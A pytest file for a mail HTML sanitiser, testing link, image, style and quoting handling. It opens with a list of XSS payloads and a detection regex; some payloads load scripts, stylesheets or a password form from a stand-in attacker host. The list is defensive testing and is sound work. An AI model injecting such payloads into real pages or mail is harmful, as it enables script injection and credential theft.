"""Unit tests for connector.mail.html: the sanitiser (XSS list, images, links, styles) and
text_to_html."""
from __future__ import annotations

import re

import pytest

from connector.mail.html import SanitizedHtml, sanitize_html, text_to_html


def clean(markup: str, **kwargs) -> str:
    return sanitize_html(markup, **kwargs).html


# --- XSS: nothing executable survives --------------------------------------------------------------

XSS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"javascript:alert(1)\">",
    "<img src=\"JaVaScRiPt:alert(1)\">",
    "<img src=\"vbscript:msgbox(1)\">",
    "<img src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
    "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
    "<img srcset=\"javascript:alert(1) 1x\">",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"x\" onclick=\"alert(1)\">x</a>",
    "<a href=\"https://ok.example\" onmouseover=\"alert(1)\">x</a>",
    "<div onmouseover=\"alert(1)\">x</div>",
    "<body onload=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>"
    "</mtext></math>",
    "<iframe src=\"https://evil.example\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"https://evil.example/x.swf\"></object>",
    "<embed src=\"https://evil.example/x.swf\">",
    "<applet code=\"x\"></applet>",
    "<form action=\"https://evil.example\"><input name=\"p\" type=\"password\">"
    "<button formaction=\"javascript:alert(1)\">go</button></form>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<base href=\"javascript:alert(1)//\">",
    "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">",
    "<style>@import 'https://evil.example/x.css'; body{background:url(javascript:alert(1))}</style>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<div style=\"width: expression(alert(1))\">x</div>",
    "<div style=\"-moz-binding: url(https://evil.example/x.xml#x)\">x</div>",
    "<div style=\"behavior: url(x.htc)\">x</div>",
    "<div style=\"background-image: \\75 \\72 \\6c (javascript:alert(1))\">x</div>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script></textarea>",
    "<isindex action=\"javascript:alert(1)\" type=image>",
    "<video><source onerror=\"alert(1)\"></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<a href=\"https://ok.example\" target=\"_self\" rel=\"opener\">x</a>",
    "<xss style=\"xss:expression(alert(1))\">",
    "<img src=\"cid:x\" onerror=\"alert(1)\">",
]
_DANGEROUS = re.compile(
    r"<\s*(script|iframe|object|embed|applet|form|input|button|meta|base|link|style|svg|math"
    r"|textarea|video|audio|source|marquee|isindex)\b|\son\w+\s*=|javascript:|vbscript:"
    r"|data:text|expression\(|url\(|-moz-binding|behavior|srcdoc|formaction|xlink|(?<!no)opener",
    re.I,
)


@pytest.mark.parametrize("payload", XSS)
def test_xss_payloads_neutralised(payload: str) -> None:
    out = clean(payload, allow_remote_images=True, cid_url=lambda cid: f"/att/{cid}")
    assert not _DANGEROUS.search(out), out


@pytest.mark.parametrize("payload, expected", [
    ("<script>alert(1)</script>safe", "safe"),
    ("<img src=x onerror=alert(1)>", "<img>"),
    ("<a href=\"javascript:alert(1)\">x</a>",
     '<a target="_blank" rel="noopener noreferrer">x</a>'),
    ("<div onmouseover=\"alert(1)\">x</div>", "<div>x</div>"),
    ("<form action=\"x\"><input name=\"p\">text</form>", "text"),
    ("<style>p{color:red}</style><title>T</title><p>x</p>", "<p>x</p>"),
    ("<p class=\"modal\" id=\"login\">x</p>", "<p>x</p>"),
])
def test_xss_exact_outputs(payload: str, expected: str) -> None:
    assert clean(payload) == expected


# --- Links ---------------------------------------------------------------------------------------

def test_links_open_in_new_tab_without_referrer() -> None:
    assert clean('<a href="https://example.com/x?a=1&amp;b=2" target="_self">x</a>') == (
        '<a href="https://example.com/x?a=1&amp;b=2" target="_blank" '
        'rel="noopener noreferrer">x</a>')


@pytest.mark.parametrize("href, kept", [
    ("http://example.com", True), ("https://example.com", True), ("mailto:a@example.com", True),
    ("tel:+491234", True), ("ftp://example.com", False), ("/relative/path", False),
    ("#anchor", False), ("cid:abc", False), ("data:text/plain,hi", False), ("file:///etc/passwd", False),
])
def test_link_schemes(href: str, kept: bool) -> None:
    out = clean(f'<a href="{href}">x</a>')
    assert (f'href="{href}"' in out) is kept


# --- Images ----------------------------------------------------------------------------------------

def test_cid_images_rewritten() -> None:
    result = sanitize_html('<img src="cid:image001.png@01D0" alt="Logo">'
                           '<img src="CID:%3Cother@x%3E">',
                           cid_url=lambda cid: f"/tickets/1/attachments/{len(cid)}?inline=1")
    assert result == SanitizedHtml(
        '<img src="/tickets/1/attachments/17?inline=1" alt="Logo">'
        '<img src="/tickets/1/attachments/7?inline=1">', 0)


def test_cid_without_mapping_is_dropped() -> None:
    assert clean('<img src="cid:unknown@x" alt="a">', cid_url=lambda cid: None) == '<img alt="a">'
    assert clean('<img src="cid:x@y" alt="a">') == '<img alt="a">'


def test_relative_src_in_mail_is_not_taken_for_ours() -> None:
    out = clean('<img src="/tickets/1/attachments/7?inline=1">', cid_url=lambda c: "/a")
    assert out == "<img>"


def test_remote_images_blocked_and_counted() -> None:
    markup = ('<p>Hi <img src="https://tracker.example/p.gif" alt="" width="1">'
              '<img src="http://cdn.example/logo.png" alt="Logo">'
              '<img src="HTTPS://cdn.example/b.png"></p>')
    result = sanitize_html(markup)
    assert result == SanitizedHtml(
        '<p>Hi <img data-remote-image-blocked="" alt="" width="1">'
        '<img data-remote-image-blocked="" alt="Logo">'
        '<img data-remote-image-blocked=""></p>', 3)


def test_remote_images_allowed_on_request() -> None:
    result = sanitize_html('<img src="https://cdn.example/logo.png" alt="Logo">',
                           allow_remote_images=True)
    assert result == SanitizedHtml('<img src="https://cdn.example/logo.png" alt="Logo">', 0)


def test_data_images() -> None:
    assert clean('<img src="data:image/png;base64,iVBORw0KGgo=">') == \
        '<img src="data:image/png;base64,iVBORw0KGgo=">'
    assert clean('<img src="data:image/svg+xml;base64,PHN2Zz4=">') == "<img>"


def test_remote_loads_outside_img_removed() -> None:
    markup = ('<table background="https://x.example/bg.png"><tr>'
              '<td style="background-image: url(https://x.example/bg.png); color: red">x</td>'
              '</tr></table>')
    result = sanitize_html(markup)
    assert result == SanitizedHtml(
        '<table><tbody><tr><td style="color:red">x</td></tr></tbody></table>', 0)


# --- Styles ----------------------------------------------------------------------------------------

def test_style_safe_subset_kept() -> None:
    markup = ('<p style="COLOR: #333; font-family: Calibri, sans-serif; position: fixed; '
              'top: 0; z-index: 9999; margin: 0 0 12px 0; margin-top: -300px; float: left; '
              'display: none; border-left: 2px solid #ccc; content: \'x\'">x</p>')
    assert clean(markup) == ('<p style="color:#333;font-family:Calibri , sans-serif;'
                             'margin:0 0 12px 0;display:none;border-left:2px solid #ccc">x</p>')


def test_style_with_only_unsafe_properties_dropped() -> None:
    assert clean('<span style="position:absolute;left:-9999px">x</span>') == "<span>x</span>"


# --- Mail-specific markup --------------------------------------------------------------------------

def test_outlook_markup_kept_readable() -> None:
    markup = ('<html><head><meta charset="utf-8"><style>.x{}</style></head><body>'
              '<xml><o:OfficeDocumentSettings>junk</o:OfficeDocumentSettings></xml>'
              '<p class="MsoNormal"><span lang="DE">Hallo<o:p></o:p></span></p>'
              '<blockquote type="cite">quoted</blockquote>'
              '<font color="red" face="Arial">f</font></body></html>')
    assert clean(markup) == ('<p><span lang="DE">Hallo</span></p>'
                             '<blockquote type="cite">quoted</blockquote>'
                             '<font color="red" face="Arial">f</font>')


def test_empty_and_plain_input() -> None:
    assert sanitize_html("") == SanitizedHtml("", 0)
    assert clean("a < b & c") == "a &lt; b &amp; c"


# --- text_to_html ----------------------------------------------------------------------------------

def test_text_to_html_escapes() -> None:
    assert text_to_html('<script>alert("x")</script> & co') == \
        "&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt; &amp; co"


def test_text_to_html_line_breaks() -> None:
    assert text_to_html("one\r\ntwo\n\nthree") == "one<br>\ntwo<br>\n<br>\nthree"


def test_text_to_html_links() -> None:
    assert text_to_html("See https://example.com/a?b=1&c=2). Or www.example.org, "
                        "mail me@example.com.") == (
        'See <a href="https://example.com/a?b=1&amp;c=2" rel="noopener noreferrer" '
        'target="_blank">https://example.com/a?b=1&amp;c=2</a>). Or '
        '<a href="http://www.example.org" rel="noopener noreferrer" target="_blank">'
        'www.example.org</a>, mail <a href="mailto:me@example.com" rel="noopener noreferrer" '
        'target="_blank">me@example.com</a>.')


def test_text_to_html_link_with_parentheses_and_quotes() -> None:
    assert text_to_html('(https://en.wikipedia.org/wiki/Foo_(bar))') == (
        '(<a href="https://en.wikipedia.org/wiki/Foo_(bar)" rel="noopener noreferrer" '
        'target="_blank">https://en.wikipedia.org/wiki/Foo_(bar)</a>)')
    assert 'href="https://x.example/a"' in text_to_html('"https://x.example/a"><script>')
    assert "<script>" not in text_to_html('"https://x.example/a"><script>')


def test_text_to_html_does_not_link_javascript() -> None:
    assert text_to_html("javascript:alert(1)") == "javascript:alert(1)"


def test_text_to_html_quotes() -> None:
    text = "Hi,\n> first\n> second\n>> older\n> back\nreply"
    assert text_to_html(text) == (
        'Hi,<blockquote type="cite">first<br>\nsecond'
        '<blockquote type="cite">older</blockquote>back</blockquote>reply')


# --- Bounded rendering ------------------------------------------------------------------------------

def test_long_text_is_cut_with_a_note_and_sent_mail_is_not() -> None:
    from connector.mail.html import INLINE_TEXT_LIMIT

    text = "word " * 60_000  # 300,000 characters
    shown = text_to_html(text)
    assert shown.startswith("word word") and shown.count("word") == INLINE_TEXT_LIMIT // 5
    assert 'class="mail-note"' in shown and "first 200,000 of its 300,000 characters" in shown
    assert "“raw”" in shown
    assert text_to_html(text, limit=None) == text and "mail-note" not in text_to_html("short")


def test_quoting_deeper_than_the_limit_is_shown_at_the_limit() -> None:
    from connector.mail.html import MAX_QUOTE_DEPTH

    shown = text_to_html(">" * 50 + " deep\nnext")
    assert shown == '<blockquote type="cite">' * MAX_QUOTE_DEPTH + "deep" + "</blockquote>" * MAX_QUOTE_DEPTH + "next"


def test_an_address_may_start_where_a_link_ends() -> None:
    assert text_to_html("a@b.com_c@d.com").count('href="mailto:') == 2
    assert text_to_html("x" * 10_000 + "y@example.com").count("mailto:") == 1
    assert text_to_html("mail me: (me@example.com).").count('href="mailto:me@example.com"') == 1


def test_big_html_is_sanitised_in_a_worker_process_exactly_as_small_html() -> None:
    from connector.mail import html as mail_html

    unit = ('<p style="color:red;position:absolute">Hi <img src="https://t.example/p.gif"> '
            '<img src="cid:logo@x" alt="L"><img src="cid:gone@x"><a href="javascript:x">j</a></p>')
    big = unit * 400  # about 60 KB: over IN_PROCESS_HTML
    assert len(big) > mail_html.IN_PROCESS_HTML
    cids = {"logo@x": "/tickets/1/attachments/2?inline=1&v=1"}
    pooled = sanitize_html(big, cid_url=cids.get)
    small = sanitize_html(unit, cid_url=cids.get)
    assert pooled.html == small.html * 400 and pooled.blocked_remote_images == 400
    assert small.html == ('<p style="color:red">Hi <img data-remote-image-blocked=""> '
                          '<img src="/tickets/1/attachments/2?inline=1&amp;v=1" alt="L"><img><a target="_blank" '
                          'rel="noopener noreferrer">j</a></p>')


def test_html_the_sanitiser_cannot_finish_in_time_is_shown_as_text(monkeypatch) -> None:
    from connector.mail import html as mail_html

    monkeypatch.setattr(mail_html, "RENDER_BUDGET", 0.2)  # 30,000 nested <div>: seconds for nh3
    result = sanitize_html("<div>" * 30_000 + "<b>Hello</b> <script>x()</script>world")
    assert result.blocked_remote_images == 0
    assert result.html.startswith('<p class="mail-note"><em>This mail&#x27;s formatting is too complex')
    assert "Hello world" in result.html and "<script" not in result.html and "x()" not in result.html


def test_html_over_the_inline_limit_is_cut_with_a_note(monkeypatch) -> None:
    from connector.mail import html as mail_html

    monkeypatch.setattr(mail_html, "INLINE_HTML_LIMIT", 20)
    result = sanitize_html("<p>one</p><p>two</p><p>three</p>")
    assert result.html.startswith("<p>one</p><p>two</p>") and "three" not in result.html
    assert "the first 20 of its 32 characters are shown" in result.html
